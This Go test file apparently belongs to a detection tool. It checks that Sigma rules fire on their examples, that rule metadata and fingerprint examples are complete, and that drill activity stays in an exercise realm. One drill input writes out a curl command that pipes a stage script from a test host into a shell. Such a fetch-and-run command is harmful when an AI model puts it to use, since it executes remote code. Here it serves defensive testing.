package content_test

import (
	"encoding/xml"
	"io/fs"
	"os"
	"regexp"
	"strings"
	"testing"

	"gopkg.in/yaml.v3"

	"noroshi/analyse/sigma"
	"noroshi/content"
	"noroshi/event"
	"noroshi/sense/surface/identify"
	"noroshi/sense/surface/recog"
)

// example is an event, as far as a rule looks at it.
type example struct {
	OS      string
	Image   string
	Parent  string
	Cmd     string
	Query   string
	Type    string
	Dst     string
	Blocked bool
}

func (x example) event() *event.Event {
	e := &event.Event{Device: &event.Device{OS: &event.OS{TypeID: 200}}}
	if x.OS == "windows" {
		e.Device.OS.TypeID = 100
	}
	p := &event.Process{PID: 1, CmdLine: x.Cmd, File: &event.File{Path: x.Image}, ParentProcess: &event.Process{File: &event.File{Path: x.Parent}}}
	switch {
	case x.Query != "":
		e.ClassUID, e.ActivityID, e.Device = event.DNSActivity, event.DNSTraffic, nil
		e.Query = &event.DNSQueryInfo{Hostname: x.Query, Type: x.Type}
		if x.Blocked {
			e.ActionID, e.DispositionID = event.ActionDenied, event.DispositionBlocked
		}
	case x.Dst != "":
		e.ClassUID, e.ActivityID, e.Actor = event.NetworkActivity, event.NetworkOpen, &event.Actor{Process: p}
		e.DstEndpoint = &event.Endpoint{IP: x.Dst, Port: 443}
		e.ConnectionInfo = &event.ConnectionInfo{DirectionID: event.DirectionOutbound}
	default:
		e.ClassUID, e.ActivityID, e.Process = event.ProcessActivity, event.ProcessLaunch, p
	}
	e.Finish()
	return e
}

func load(t *testing.T) (*sigma.Set, map[string]*sigma.Rule) {
	t.Helper()
	var set sigma.Set
	refused, err := set.LoadFS(content.Rules())
	if err != nil || len(refused) > 0 {
		t.Fatalf("our own rules are refused: %v, %v", refused, err)
	}
	files := map[string]*sigma.Rule{}
	names, err := fs.Glob(content.Rules(), "*.yml")
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		b, err := fs.ReadFile(content.Rules(), n)
		if err != nil {
			t.Fatal(err)
		}
		if files[strings.TrimSuffix(n, ".yml")], err = sigma.Parse(n, b); err != nil {
			t.Fatal(err)
		}
	}
	return &set, files
}

func TestEveryRuleFindsItsExamplesAndLeavesTheOthersAlone(t *testing.T) {
	b, err := os.ReadFile("testdata/examples.yml")
	if err != nil {
		t.Fatal(err)
	}
	var examples map[string]struct{ Yes, No []example }
	if err := yaml.Unmarshal(b, &examples); err != nil {
		t.Fatal(err)
	}
	set, rules := load(t)
	for name, r := range rules {
		ex := examples[name]
		if len(ex.Yes) == 0 || len(ex.No) == 0 {
			t.Errorf("%s has no example to find, or none to leave alone", name)
		}
		for _, want := range []bool{true, false} {
			list := ex.Yes
			if !want {
				list = ex.No
			}
			for _, x := range list {
				got := false
				for _, h := range set.Match(x.event()) {
					got = got || h.Rule.ID == r.ID
				}
				if got != want {
					t.Errorf("%s: found %t, want %t: %+v", name, got, want, x)
				}
			}
		}
	}
	for name := range examples {
		if rules[name] == nil {
			t.Errorf("there are examples of %s, which is no rule", name)
		}
	}
}

var uuid = regexp.MustCompile(`^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$`)

func TestRulesAreCompleteAndDistinct(t *testing.T) {
	_, rules := load(t)
	ids := map[string]string{}
	for name, r := range rules {
		if other := ids[r.ID]; other != "" || !uuid.MatchString(r.ID) {
			t.Errorf("%s: the id %q is no UUID or also that of %q", name, r.ID, other)
		}
		ids[r.ID] = name
		if r.TitleJA == "" || r.Description == "" || r.License != "Apache-2.0" || len(r.Techniques) == 0 {
			t.Errorf("%s lacks a Japanese title, a description, its licence or a technique", name)
		}
		if got, want := r.HasTag("noroshi.exercise"), strings.HasPrefix(name, "exercise_"); got != want {
			t.Errorf("%s: exercise is %t by its tag and %t by its name", name, got, want)
		}
	}
}

// TestDrillIsNoRealAttack holds the two realms apart: what a drill does fires
// the rules of the exercise realm and no other.
func TestDrillIsNoRealAttack(t *testing.T) {
	set, _ := load(t)
	for _, x := range []example{
		{Image: "/usr/bin/dash", Cmd: "/bin/sh -c : curl -fsS http://signal-0a1b2c3d.drill.noroshi.test/stage.sh '|' sh"},
		{Query: "signal-0a1b2c3d.drill.noroshi.test", Type: "A"},
	} {
		hits := set.Match(x.event())
		if len(hits) != 1 || !hits[0].Rule.HasTag("noroshi.exercise") {
			t.Errorf("%+v fires %d rules: %+v", x, len(hits), hits)
		}
	}
}

func TestEveryFingerprintKnowsItsExamples(t *testing.T) {
	db, err := recog.Load(content.Fingerprints())
	if err != nil {
		t.Fatal(err)
	}
	files, err := fs.Glob(content.Fingerprints(), "*.xml")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range files {
		b, err := fs.ReadFile(content.Fingerprints(), name)
		if err != nil {
			t.Fatal(err)
		}
		var d struct {
			Matches string `xml:"matches,attr"`
			All     []struct {
				Pattern  string `xml:"pattern,attr"`
				Examples []struct {
					Text string     `xml:",chardata"`
					Said []xml.Attr `xml:",any,attr"`
				} `xml:"example"`
				Params []struct {
					Name string `xml:"name,attr"`
				} `xml:"param"`
			} `xml:"fingerprint"`
		}
		if err := xml.Unmarshal(b, &d); err != nil {
			t.Fatal(err)
		}
		if name != d.Matches+".xml" {
			t.Errorf("%s is about %s", name, d.Matches)
		}
		for _, f := range d.All {
			if len(f.Examples) == 0 {
				t.Errorf("%s: %s has no example", name, f.Pattern)
			}
			for _, x := range f.Examples {
				m := db.Match(d.Matches, x.Text)
				for _, p := range f.Params {
					if m[p.Name] == "" {
						t.Errorf("%s: %q says no %s", name, x.Text, p.Name)
					}
				}
				for _, want := range x.Said {
					if m[want.Name.Local] != want.Value {
						t.Errorf("%s: %q says %v; want %s to be %q", name, x.Text, m, want.Name.Local, want.Value)
					}
				}
			}
		}
	}
}

func TestTheListOfPagesIsSound(t *testing.T) {
	all, err := identify.Pages(strings.NewReader(content.Pages))
	if err != nil || len(all) < 20 {
		t.Fatalf("%d pages, %v", len(all), err)
	}
	for _, p := range all {
		if p.Pattern.MatchString("200 OK\n\nnothing to see here") {
			t.Errorf("%s is found everywhere", p.Name)
		}
		if p.Pattern.SubexpIndex("version") > 0 && p.Product == "" {
			t.Errorf("%s says the version of nothing", p.Name)
		}
	}
}
